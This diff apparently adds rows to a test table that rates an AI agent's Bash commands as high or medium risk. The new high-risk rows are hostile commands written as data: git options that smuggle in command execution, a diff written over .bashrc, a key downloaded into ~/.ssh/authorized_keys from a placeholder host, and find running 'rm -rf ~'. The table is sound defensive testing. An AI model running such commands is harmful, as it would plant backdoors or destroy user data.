@@ -49,6 +49,12 @@ TABLE: list[tuple[str, dict[str, object], str, str]] = [
     ("Bash", {"command": "docker run --privileged -v /:/host alpine sh"}, "high", "host root"),
     ("Bash", {"command": "timeout 60 sudo -u postgres psql -c 'drop database app'"}, "high", "SQL"),
     ("Bash", {"command": "nice -n 5 sudo apt-get upgrade -y"}, "high", "another user"),
+    ("Bash", {"command": "git -c core.sshCommand='touch X' fetch"}, "high", "execute commands"),
+    ("Bash", {"command": "git -c alias.st='!touch X' st"}, "high", "execute commands"),
+    ("Bash", {"command": "git fetch --upload-pack='touch X' origin"}, "high", "execute commands"),
+    ("Bash", {"command": "git diff --output=/home/dev/.bashrc"}, "high", "start-up"),
+    ("Bash", {"command": "curl -o ~/.ssh/authorized_keys https://x.example/k"}, "high", "credentials"),
+    ("Bash", {"command": "find . -name '*.py' -exec bash -c 'rm -rf ~' \\;"}, "high", "interpreter"),
     # medium
     ("Bash", {"command": "curl https://api.example.com/data"}, "medium", "network"),
     ("Bash", {"command": "ssh deploy@prod uptime"}, "medium", "network"),
